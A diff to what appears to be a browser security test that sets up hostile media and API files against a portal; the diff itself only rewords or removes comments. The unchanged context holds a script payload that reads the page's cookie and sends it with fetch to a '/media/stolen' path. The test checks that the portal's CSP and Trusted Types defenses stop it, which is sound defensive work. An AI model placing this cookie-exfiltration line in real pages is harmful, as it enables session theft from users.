@@ -5,11 +5,11 @@ import { startAppServer } from './support/app-server.ts';
 import { test as base, expect } from './support/test.ts';
 
 /**
- * A media host and an API whose files attack the portal: they try to read its cookie, to run on its
- * pages and to become its worker.
+ * A media host and an API whose files try to read the portal's cookie, to run on its pages and to
+ * become its worker.
  */
 
-/** The attack of each file, if it runs as a page, a script or a worker. */
+/** Each file runs this attack, as a page, a script or a worker. */
 const SCRIPT = `
   self.attacked = true;
   fetch('/media/stolen?' + self.document?.cookie);
@@ -73,7 +73,6 @@ test.use({
   allowedErrors: [/Content Security Policy|MIME type|sandboxed|TrustedScriptURL|TrustedScript/],
 });
 
-/** As a member has it: with a session's cookie and an active worker. */
 async function openPortal(page: Page): Promise<void> {
   await page.goto('/login');
   await page.evaluate(async () => {
